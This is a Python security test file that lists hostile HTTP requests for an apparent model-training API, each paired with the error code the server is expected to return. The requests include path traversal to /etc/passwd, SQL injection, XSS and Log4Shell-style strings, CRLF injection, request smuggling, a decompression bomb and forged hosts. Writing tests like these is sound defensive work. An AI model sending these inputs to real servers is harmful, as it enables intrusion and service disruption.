"""HTTP that attacks: bodies, forms, JSON, paths and heads, some of which no honest client library
would send.
"""

import gzip
import json
import zlib
from collections.abc import Callable

from tests.core.ingest.hostile_corpus import build_zip, draw_pictures, draw_png
from tests.security.case import MODELS, PREDICT, TASKS, Case

BAD, MISSING, REFUSED, CUT, TYPE, LARGE, SLOW = (
    "400", "404 not-found", "422 invalid", "400 body-truncated", "415 unsupported-type", "413 body-too-large",
    "408 body-timeout",
)  # fmt: skip
FORM = {"Content-Type": "multipart/form-data; boundary=xx"}
JSON = {"Content-Type": "application/json"}
ZIP = {"Content-Type": "application/zip"}


def list_cases() -> list[Case]:
    """Return all cases of bodies."""
    return [
        *_list_json_cases(),
        *_list_array_cases(),
        *_list_form_cases(),
        *_list_header_cases(),
        *_list_path_cases(),
        *_list_raw_cases(),
    ]


def _make_case(name: str, body: bytes | Callable[[], bytes], *answers: str, path: str = TASKS, method: str = "POST",
          **headers: str) -> Case:  # fmt: skip
    make = body if callable(body) else lambda: body
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return Case("bodies", name, make, answers, path, method, named)


def _list_json_cases() -> list[Case]:
    def make_json_case(name: str, body: bytes, *answers: str) -> Case:
        return Case(
            "bodies", f"JSON: {name}", lambda: body, answers or (REFUSED,), MODELS, headers=JSON
        )

    def encode_model(**fields: object) -> bytes:
        return json.dumps({"name": "evil", "scenario": "class", **fields}).encode()

    return [
        make_json_case("100,000 brackets", b"[" * 100_000),
        make_json_case("100,000 objects deep", b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
        make_json_case("65 deep", b'{"a":' * 65 + b"1" + b"}" * 65),
        make_json_case("name twice", b'{"name": "a", "name": "b", "scenario": "class"}'),
        make_json_case("name twice by an escape", b'{"name": "a", "\\u006eame": "b", "scenario": "class"}'),
        make_json_case("integer of 19 digits", encode_model(recipe={"seed": 10**19})),
        make_json_case("integer of 100,000 digits", b'{"name": "a", "recipe": {"seed": ' + b"9" * 100_000 + b"}}"),
        make_json_case("float of 1e400", b'{"name": "evil", "scenario": "class", "recipe": {"method": "er", '
            b'"rate": 1e400}}'),
        make_json_case("NaN", b'{"name": "evil", "scenario": "class", "recipe": {"rate": NaN}}'),
        make_json_case("minus infinity", b'{"name": "evil", "scenario": "class", "recipe": {"rate": '
            b'-Infinity}}'),
        make_json_case("half a surrogate", b'{"name": "\\ud800", "scenario": "class"}'),
        make_json_case("half a surrogate as a name", b'{"\\udfff": 1, "name": "a", "scenario": "class"}'),
        make_json_case("NUL", b'{"name": "a\\u0000b", "scenario": "class"}'),
        make_json_case("byte order mark", b"\xef\xbb\xbf" + encode_model()),
        make_json_case("UTF-16", encode_model().decode().encode("utf-16")),
        make_json_case("UTF-32", encode_model().decode().encode("utf-32")),
        make_json_case("not UTF-8", b'{"name": "\xff", "scenario": "class"}'),
        make_json_case("overlong UTF-8", b'{"name": "\xc0\xae\xc0\xae", "scenario": "class"}'),
        make_json_case("two values", encode_model() + encode_model()),
        make_json_case("nothing", b""),
        make_json_case("list", b"[]"),
        make_json_case("text", b'"evil"'),
        make_json_case("null", b"null"),
        make_json_case("comment", b"/**/" + encode_model()),
        make_json_case("single quotes", b"{'name': 'evil'}"),
        make_json_case("1 MiB and a byte", b" " * (1 << 20) + b"1", LARGE),
        make_json_case("50,000 unknown fields", json.dumps({f"f{i}": i for i in range(50_000)}).encode()),
        make_json_case("__class__ and __proto__", encode_model(__class__="x", __proto__={"admin": True})),
        make_json_case("owner of somebody else", encode_model(owner="admin", id="mdl_1")),
        make_json_case("name that climbs", encode_model(name="../../etc")),
        make_json_case("name of markup", encode_model(name="<script>alert(1)</script>")),
        make_json_case("name with CR LF", encode_model(name="a\r\nSet-Cookie: x")),
        make_json_case("name with bidi override", encode_model(name="a\u202eb")),
        make_json_case("name of SQL", encode_model(name="x'; DROP TABLE models;--")),
        make_json_case("name of 100,000 characters", encode_model(name="x" * 100_000)),
        make_json_case("image of 10^9 pixels a side", encode_model(image={"size": 10**9, "channels": 3})),
        make_json_case("image of no pixels", encode_model(image={"size": 0, "channels": 3})),
        make_json_case("epochs of 2^62", encode_model(recipe={"method": "er", "epochs": 1 << 62}),
            "422 invalid-recipe", REFUSED),
        make_json_case("widths of 10^9", encode_model(architecture={"name": "mlp", "hidden": [10**9] * 9}),
            REFUSED, "422 invalid-recipe"),
        make_json_case("base that is a path", encode_model(base="/etc/passwd"), REFUSED, MISSING),
        make_json_case("base that is an address", encode_model(base="file:///etc/passwd#x"), REFUSED, MISSING),
        Case("bodies", "JSON: as a form", lambda: b"name=evil", (TYPE,), MODELS,
             headers={"Content-Type": "application/x-www-form-urlencoded"}),
        Case("bodies", "JSON: packed as "
            "gzip", lambda: gzip.compress(encode_model()), (REFUSED, TYPE), MODELS,
             headers={**JSON, "Content-Encoding": "gzip"}),
    ]  # fmt: skip


def _list_array_cases() -> list[Case]:
    def make_array_case(name: str, body: bytes, *answers: str) -> Case:
        return Case("bodies", f"arrays: {name}", lambda: body, answers or (REFUSED, "422 image-invalid"), PREDICT,
                    headers=JSON)  # fmt: skip

    spread = b'[[["' + b"x" * (1 << 20) + b'"' + b',"1"' * 100_000 + b"]]]"
    return [
        make_array_case("100,000 brackets", b"[" * 100_000),
        make_array_case("five million empty lists", b"[[" + b"[]," * 5_000_000 + b"[]]]"),
        make_array_case("eight million channels of one pixel", b"[[[[" + b"1," * 8_000_000 + b"1]]]]"),
        make_array_case("a text that NumPy spreads over 400 GB", spread),
        make_array_case("NaN", b"[[[NaN]]]"),
        make_array_case("infinity", b"[[[1e999]]]"),
        make_array_case("256", b"[[[256]]]"),
        make_array_case("fraction", b"[[[0.5]]]"),
        make_array_case("negative", b"[[[-1]]]"),
        make_array_case("integer of 5,000 digits", b"[[[" + b"9" * 5000 + b"]]]"),
        make_array_case("ragged", b"[[[1, 2], [3]]]"),
        make_array_case("257 images", b"[" + b"[[1]]," * 256 + b"[[1]]]"),
        make_array_case("no images", b"[]"),
        make_array_case("images named twice", b'{"images": [[[1]]], "images": [[[2]]]}'),
        make_array_case("other field", b'{"instances": [[[1]]]}'),
        make_array_case("UTF-16", "[[[1]]]".encode("utf-16")),
        make_array_case("not UTF-8", b"\xff"),
    ]  # fmt: skip


def _list_form_cases() -> list[Case]:
    def build_form_part(
        data: bytes, head: bytes = b'Content-Disposition: form-data; name="file"; filename="a.zip"'
    ) -> bytes:
        return b"--xx\r\n" + head + b"\r\n\r\n" + data + b"\r\n"

    def make_form_case(
        name: str,
        body: Callable[[], bytes],
        *answers: str,
        to: str = TASKS,
        kind: str = FORM["Content-Type"],
    ) -> Case:
        return Case(
            "bodies",
            f"form: {name}",
            body,
            answers or (REFUSED,),
            to,
            headers={"Content-Type": kind},
        )

    image = b'Content-Disposition: form-data; name="image"; filename="a.png"'
    recipe = b'Content-Disposition: form-data; name="recipe"'
    data, end = build_zip(draw_pictures()), b"--xx--\r\n"
    return [
        make_form_case("no boundary", lambda: build_form_part(data) + end, kind="multipart/form-data"),
        make_form_case("empty boundary", lambda: build_form_part(data) + end, kind="multipart/form-data; boundary="),
        make_form_case("boundary of 71 characters", lambda: build_form_part(data) + end, kind="multipart/form-data; "
            "boundary=" + "x" * 71),
        make_form_case("boundary of 60,000 characters", lambda: build_form_part(data) + end,
          kind="multipart/form-data; boundary=" + "x" * 60_000),
        make_form_case("other boundary", lambda: build_form_part(data) + end, kind="multipart/form-data; boundary=yy"),
        make_form_case("no closing boundary", lambda: build_form_part(data), CUT),
        make_form_case("no file", lambda: end, REFUSED, CUT, BAD),
        make_form_case("two files", lambda: build_form_part(data) + build_form_part(data) + end),
        make_form_case("10,000 parts", lambda: build_form_part(b"{}", recipe) * 10_000 + end),
        make_form_case("part of another name", lambda: build_form_part(data, b'Content-Disposition: form-data; '
            b'name="../file"') + end),
        make_form_case("part without disposition",
            lambda: build_form_part(data, b"Content-Type: application/zip") + end),
        make_form_case("10,000 headers in a part",
          lambda: build_form_part(data, b"X-A: b\r\n" * 10_000 + b'Content-Disposition: form-data; '
              b'name="file"') + end),
        make_form_case("header of 8 MB in a part", lambda: build_form_part(data, b"X-A: " + b"b" * (8 << 20)) + end),
        make_form_case("header name of 8 MB in a part", lambda: build_form_part(data, b"X" * (8 << 20) + b": b") + end),
        make_form_case("parameter bomb in a disposition",
          lambda: build_form_part(data, b"Content-Disposition: form-data" + b"; a=b" * 800) + end),
        make_form_case("file name with CR LF",
          lambda: build_form_part(b"x", b'Content-Disposition: form-data; name="file"; filename="a\r\nX: '
              b'y"') + end,
          REFUSED, TYPE),
        make_form_case("field of 65 KiB",
            lambda: build_form_part(data) + build_form_part(b"x" * (65 << 10), recipe) + end, LARGE),
        make_form_case("field of 16 MB", lambda: build_form_part(b"x" * (16 << 20),
            recipe) + build_form_part(data) + end, LARGE),
        make_form_case("field that is not UTF-8",
            lambda: build_form_part(data) + build_form_part(b"\xff", recipe) + end),
        make_form_case("field twice", lambda: build_form_part(b"{}", recipe) + build_form_part(b"{}",
            recipe) + build_form_part(data) + end),
        make_form_case("recipe 100,000 deep",
            lambda: build_form_part(b"[" * 60_000, recipe) + build_form_part(data) + end),
        make_form_case("form in a form", lambda: build_form_part(build_form_part(data) + end) + end, REFUSED,
            TYPE, CUT),
        make_form_case("file in base64",
          lambda: build_form_part(b"UEsDBA==", b'Content-Disposition: form-data; name="file"\r\n'
                                    b"Content-Transfer-Encoding: base64") + end, TYPE),
        make_form_case("NUL in a part's head", lambda: build_form_part(data, b'Content-Disposition: form-data; '
            b'name="fi\0le"') + end),
        make_form_case("predict: 257 images", lambda: build_form_part(draw_png(), image) * 257 + end, to=PREDICT),
        make_form_case("predict: 10,000 images of no "
            "bytes", lambda: build_form_part(b"", image) * 10_000 + end, to=PREDICT),
        make_form_case("predict: no images", lambda: end, REFUSED, CUT, BAD, "422 image-invalid", to=PREDICT),
        make_form_case("predict: other part", lambda: build_form_part(draw_png(), b'Content-Disposition: form-data; '
            b'name="model"') + end,
          to=PREDICT),
        make_form_case("predict: 17 headers",
            lambda: build_form_part(draw_png(), b"X-A: b\r\n" * 17 + image) + end, to=PREDICT),
        make_form_case("predict: header of 8 "
            "MB", lambda: build_form_part(draw_png(), b"X-A: " + b"b" * (8 << 20) + b"\r\n" + image) + end,
          to=PREDICT),
        make_form_case("predict: 256 images of no "
            "bytes", lambda: build_form_part(b"", image) * 256 + end, "200", to=PREDICT),
        make_form_case("predict: file names of 3,000 characters and of control characters",
          lambda: build_form_part(draw_png(), image.replace(b"a.png", b"\xe2\x80\xae" * 1000))
          + build_form_part(draw_png(), image.replace(b"a.png", b"\x1b[2J\x07")) + end, "200", to=PREDICT),
        make_form_case("predict: no closing boundary", lambda: build_form_part(draw_png(), image), CUT, to=PREDICT),
    ]  # fmt: skip


def _list_header_cases() -> list[Case]:
    data = build_zip(draw_pictures())
    encodings = (
        "gzip", "br", "deflate", "zstd", "compress", "gzip, gzip, "
            "gzip", "identity, gzip", "x" * 4000,
    )  # fmt: skip

    def make_header_case(
        name: str,
        *answers: str,
        path: str = "/v1/models",
        method: str = "GET",
        body: bytes = b"",
        **headers: str,
    ) -> Case:
        named = {key.replace("_", "-"): value for key, value in headers.items()}
        return Case("bodies", f"head: {name}", lambda: body, answers, path, method, named)

    def make_post_case(name: str, *answers: str, **headers: str) -> Case:
        return make_header_case(
            name, *(answers or (REFUSED,)), path=TASKS, method="POST", body=data, **headers
        )

    bomb = zlib.compress(bytes(64 << 20), 9)
    return [
        *[make_post_case(f"Content-Encoding {e[:20]}", TYPE, Content_Encoding=e) for e in encodings],
        make_header_case("packed bomb as a "
            "batch", TYPE, path=TASKS, method="POST", body=bomb, Content_Encoding="deflate"),
        make_post_case("digest of another body", "422 digest-mismatch", Content_Digest=f"sha-256=:{'A' * 43}=:"),
        make_post_case("digest that is no base64", Content_Digest="sha-256=:%%%:"),
        make_post_case("digest of 60,000 characters", Content_Digest="sha-256=:" + "A" * 60_000 + ":"),
        make_post_case("recipe that is no JSON", Perennial_Recipe="{"),
        make_post_case("recipe 10,000 deep", Perennial_Recipe="[" * 10_000),
        make_post_case("recipe in Latin-1", Perennial_Recipe='{"a": "\u00ff"}'),
        make_post_case("idempotency key of 10,000 characters", Idempotency_Key="k" * 10_000),
        make_post_case("type of 60,000 characters", TYPE, Content_Type="a/" + "b" * 60_000),
        make_post_case("type with a comma bomb", TYPE, Content_Type="application/x," * 4000),
        make_header_case("method override", "200", X_HTTP_Method_Override="DELETE", X_Method_Override="DELETE",
          X_HTTP_Method="DELETE"),
        make_header_case("method override on a "
            "POST", LARGE, REFUSED, path=MODELS, method="POST", X_HTTP_Method_Override="DELETE",
          Content_Type="application/json"),
        make_header_case("TRACE", "405 method-not-allowed", method="TRACE"),
        make_header_case("unknown method", "405 method-not-allowed", "400", method="PWN"),
        make_header_case("request id with markup", "200", X_Request_ID="<script>\u00ff${jndi:ldap://x}"),
        make_header_case("host of somebody else", "200", Host="evil.example"),
        make_header_case("forwarded "
            "for", "200", X_Forwarded_For="127.0.0.1", X_Forwarded_Host="evil", X_Original_URL="/metrics"),
        make_header_case("key of 60,000 "
            "characters", "401 not-authenticated", Authorization="Bearer pk_" + "x" * 60_000),
        make_header_case("key of SQL", "401 not-authenticated", Authorization="Bearer pk_' OR '1'='1"),
        make_header_case("key of another scheme", "401 not-authenticated", Authorization="Basic YTpi"),
        make_header_case("key that is no ASCII", "401 not-authenticated", Authorization="Bearer pk_\u00e9\u00ff"),
        make_header_case("If-None-Match of 8,000 tags", "200", "304", If_None_Match=", ".join(['"a"'] * 8000)),
        make_header_case("Accept bomb", "200", Accept=",".join(["a/b;q=0.1"] * 4000)),
        make_header_case("Cookie bomb", "200", "closed", Cookie="a=b; " * 8000),
        *[make_header_case(f"Range {name}", "200", "206", "416 range-not-satisfiable", "400",
            path=f"{MODELS}/target/versions/latest/download",
            Range=value) for name, value in (
            ("of 200 pieces", "bytes=" + ",".join(f"{i}-" for i in range(200))),
            ("of 9,000 overlapping pieces", "bytes=" + ",".join(["0-"] * 9000)),
            ("of dashes", "bytes=" + "-" * 30_000),
            ("beyond 2^64", f"bytes={1 << 70}-"),
            ("of 5,000 digits", "bytes=" + "9" * 5000 + "-"),
            ("backwards", "bytes=9-1"),
            ("of other digits", "bytes=\u00b2-\u00b3"),
        )],
    ]  # fmt: skip


def _list_path_cases() -> list[Case]:
    def make_path_case(name: str, path: str, *answers: str) -> Case:
        return Case("bodies", f"path: {name}", lambda: b"", answers or (MISSING,), path, "GET")

    return [
        make_path_case("climbs", "/v1/models/..%2f..%2f..%2fetc%2fpasswd"),
        make_path_case("climbs in plain", "/v1/models/../../../etc/passwd", MISSING, "401"),
        make_path_case("climbs in overlong UTF-8", "/v1/models/%c0%ae%c0%ae%2fetc", MISSING, REFUSED),
        make_path_case("climbs twice encoded", "/v1/models/%252e%252e%252f", MISSING, REFUSED),
        make_path_case("backslashes", "/v1/models/..%5c..%5cwindows", MISSING, REFUSED),
        make_path_case("NUL", "/v1/models/a%00b", MISSING, REFUSED),
        make_path_case("not UTF-8", "/v1/models/%ff%fe", MISSING, REFUSED),
        make_path_case("half a surrogate", "/v1/models/%ed%a0%80", MISSING, REFUSED),
        make_path_case("CR LF", "/v1/models/a%0d%0aSet-Cookie:x", MISSING, REFUSED),
        make_path_case("of 30,000 characters", "/v1/models/" + "x" * 30_000, MISSING, REFUSED, BAD, "414"),
        make_path_case("SQL", "/v1/models/x'%20OR%20'1'='1", MISSING, REFUSED),
        make_path_case("wildcards", "/v1/models/%25_%25", MISSING, REFUSED),
        make_path_case("template", "/v1/models/%7B%7B7*7%7D%7D", MISSING, REFUSED),
        make_path_case("double slashes", "//v1//models//target", MISSING),
        make_path_case("version of 30 digits", "/v1/models/target/versions/" + "9" * 30, MISSING, REFUSED),
        make_path_case("version of 5,000 digits", "/v1/models/target/versions/" + "9" * 5000, MISSING, REFUSED),
        make_path_case("version below 0", "/v1/models/target/versions/-1", MISSING, REFUSED),
        make_path_case("version of other digits", "/v1/models/target/versions/%D9%A1", MISSING, REFUSED),
        make_path_case("version of a circled digit", "/v1/models/target/versions/%E2%91%A0", MISSING, REFUSED),
        make_path_case("task of 2^63", f"/v1/models/target/tasks/{1 << 63}", MISSING, REFUSED),
        make_path_case("task that is a number with "
            "blanks", "/v1/models/target/tasks/%201", MISSING, REFUSED, "200"),
        make_path_case("job that is no id", "/v1/jobs/job_%27%22%3C", MISSING),
        make_path_case("base that climbs", "/v1/bases/..%2f..", MISSING),
        make_path_case("limit of 10^9", "/v1/models?limit=1000000000", REFUSED),
        make_path_case("limit below 0", "/v1/models?limit=-1", REFUSED),
        make_path_case("limit that is NaN", "/v1/models?limit=NaN", REFUSED),
        make_path_case("cursor of noise", "/v1/models?cursor=%00%ff", REFUSED),
        make_path_case("cursor of a forged row", "/v1/models?cursor=WzEsIDIsIDNd", REFUSED),
        make_path_case("cursor of 10,000 characters", "/v1/models?cursor=" + "A" * 10_000, REFUSED),
        make_path_case("query twice", "/v1/models?limit=1&limit=2", REFUSED),
        make_path_case("101 queries", "/v1/models?" + "&".join(f"a{i}=1" for i in range(101)), REFUSED),
        make_path_case("unknown query", "/v1/models?admin=1", REFUSED),
    ]  # fmt: skip


def _list_raw_cases() -> list[Case]:
    def make_raw_case(name: str, *answers: str, pieces: list[bytes], pause_s: float = 0.0) -> Case:
        return Case("bodies", f"raw: {name}", lambda: pieces, answers, raw=True, pause_s=pause_s)

    key = b"Host: x\r\nAuthorization: Bearer {key}\r\n"
    get = b"GET /v1/models HTTP/1.1\r\n" + key
    post = b"POST " + TASKS.encode() + b" HTTP/1.1\r\n" + key + b"Content-Type: application/zip\r\n"
    data = build_zip(draw_pictures())
    chunked = post + b"Transfer-Encoding: chunked\r\n\r\n"
    closed = (BAD, "closed", SLOW)
    return [
        make_raw_case("fewer bytes than declared, then gone", CUT, "closed",
          pieces=[post + b"Content-Length: 9000\r\n\r\n" + data[:99]]),
        make_raw_case("more bytes than declared", "422 archive-invalid", BAD,
          pieces=[post + b"Content-Length: 99\r\n\r\n" + data[:99] + b"GARBAGE"]),
        make_raw_case("length below 0", *closed, REFUSED, pieces=[post + b"Content-Length: -1\r\n\r\n"]),
        make_raw_case("length with a plus", *closed, REFUSED, pieces=[post + b"Content-Length: "
            b"+5\r\n\r\nhello"]),
        make_raw_case("length in hexadecimal", *closed, REFUSED, pieces=[post + b"Content-Length: "
            b"0x5\r\n\r\nhello"]),
        make_raw_case("length of 30 digits", *closed, REFUSED, LARGE,
          pieces=[post + b"Content-Length: " + b"9" * 30 + b"\r\n\r\n"]),
        make_raw_case("length of 2^63 - 1", *closed, LARGE, REFUSED,
          pieces=[post + b"Content-Length: 9223372036854775807\r\n\r\n"]),
        make_raw_case("two lengths", *closed, REFUSED, pieces=[post + b"Content-Length: 5\r\nContent-Length: "
            b"9\r\n\r\nhello"]),
        make_raw_case("length and chunks (smuggling)", *closed, "415", "422 archive-invalid", pieces=[
            post + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics "
                b"HTTP/1.1\r\n\r\n"]),
        make_raw_case("chunks, said in an odd way", *closed, "422", "415", CUT,
          pieces=[post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"]),
        make_raw_case("chunks twice", *closed, "422", "415",
          pieces=[post + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n"]),
        make_raw_case("chunks without end, then "
            "gone", CUT, "closed", TYPE, pieces=[chunked + b"5\r\nPK\x03\x04x\r\n"]),
        make_raw_case("chunk of 2^64 bytes", *closed, CUT, pieces=[chunked + b"ffffffffffffffff\r\nPK"]),
        make_raw_case("chunk of 2^80 bytes", *closed, CUT, pieces=[chunked + b"f" * 20 + b"\r\nPK"]),
        make_raw_case("chunk below 0", *closed, CUT, pieces=[chunked + b"-5\r\nhello\r\n0\r\n\r\n"]),
        make_raw_case("chunk extension of 1 MB", *closed, "431", CUT, TYPE, "422",
          pieces=[chunked + b"5;" + b"x" * (1 << 20) + b"\r\nhello\r\n0\r\n\r\n"]),
        make_raw_case("trailers of 1 MB", *closed, "431", CUT, TYPE, "422",
          pieces=[chunked + b"5\r\nhello\r\n0\r\n" + b"X: y\r\n" * 200_000 + b"\r\n"]),
        make_raw_case("chunks of one byte", TYPE, pieces=[chunked + b"1\r\nP\r\n" * 20_000 + b"0\r\n\r\n"]),
        make_raw_case("header of 1 MB", "431", pieces=[get + b"X-A: " + b"b" * (1 << 20) + b"\r\n\r\n"]),
        make_raw_case("100,000 headers", "431", pieces=[get + b"X-A: b\r\n" * 100_000 + b"\r\n"]),
        make_raw_case("path of 1 MB", "431", pieces=[b"GET /" + b"x" * (1 << 20) + b" HTTP/1.1\r\n" + key + b"\r\n"]),
        make_raw_case("NUL in a header", *closed, pieces=[get + b"X-A: a\0b\r\n\r\n"]),
        make_raw_case("bare CR in a header", *closed, pieces=[get + b"X-A: a\rSet-Cookie: x\r\n\r\n"]),
        make_raw_case("folded header", *closed, "200", pieces=[get + b"X-A: a\r\n b\r\n\r\n"]),
        make_raw_case("blank before the colon", *closed, pieces=[get + b"Content-Length : 5\r\n\r\nhello"]),
        make_raw_case("header without a name", *closed, pieces=[get + b": x\r\n\r\n"]),
        make_raw_case("request id with CR LF", *closed, "200", pieces=[get + b"X-Request-ID: "
            b"a%0d%0aSet-Cookie: x\r\n\r\n"]),
        make_raw_case("HTTP/0.9, then gone", *closed, pieces=[b"GET /v1/models\r\n"]),
        make_raw_case("HTTP/9.9", *closed, pieces=[b"GET /v1/models HTTP/9.9\r\n" + key + b"\r\n"]),
        make_raw_case("HTTP/2 preface", *closed, pieces=[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(40)]),
        make_raw_case("TLS hello", *closed, pieces=[b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(300)]),
        make_raw_case("noise", *closed, pieces=[bytes(range(256)) * 40]),
        make_raw_case("upgrade to a socket", "200", BAD, "404", "closed", pieces=[
            get + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"]),
        make_raw_case("CONNECT", *closed, "404", "405", pieces=[b"CONNECT evil.example:80 "
            b"HTTP/1.1\r\n" + key + b"\r\n"]),
        make_raw_case("asterisk", *closed, "404", "405", pieces=[b"OPTIONS * HTTP/1.1\r\n" + key + b"\r\n"]),
        make_raw_case("absolute address", "200", "404", BAD,
          pieces=[b"GET http://evil.example/v1/models HTTP/1.1\r\n" + key + b"\r\n"]),
        make_raw_case("500 requests at once, then gone", "200", "closed", pieces=[(get + b"\r\n") * 500]),
        make_raw_case("body on a GET", "200", pieces=[get + b"Content-Length: 5\r\n\r\nhello"]),
        make_raw_case("100-continue with a body too large", LARGE,
          pieces=[post + b"Expect: 100-continue\r\nContent-Length: 99999999999\r\n\r\n"]),
        make_raw_case("other expectation", "417", BAD, "422", "415", CUT,
          pieces=[post + b"Expect: 200-ok\r\nContent-Length: 5\r\n\r\nhello"]),
        make_raw_case("head in drops, then gone", "closed",
          pieces=[b"GET /v1/models HTTP/1.1\r\n", b"Host: x\r\n", b"X-A: "], pause_s=0.3),
        make_raw_case("body that stops", SLOW, pause_s=0.5,
          pieces=[post + b"Content-Length: "
              b"9000\r\n\r\n" + data[:50], b"", b"", b"", b"", b"", b""]),
        make_raw_case("body in drops", SLOW, pause_s=0.2,
          pieces=[post + b"Content-Length: 9000\r\n\r\n", *[bytes([b]) for b in data[:30]]]),
        make_raw_case("predict that stops, then gone", "closed", CUT, pieces=[
            post.replace(TASKS.encode(), PREDICT.encode()).replace(b"application/zip", b"application/json")
            + b"Content-Length: 9000\r\n\r\n[[["]),
        make_raw_case("batch larger than declared limit, in chunks", LARGE, "closed", pieces=[
            chunked + b"4\r\nPK\x03\x04\r\n", *[b"100000\r\n" + bytes(1 << 20) + b"\r\n"] * 80]),
    ]  # fmt: skip
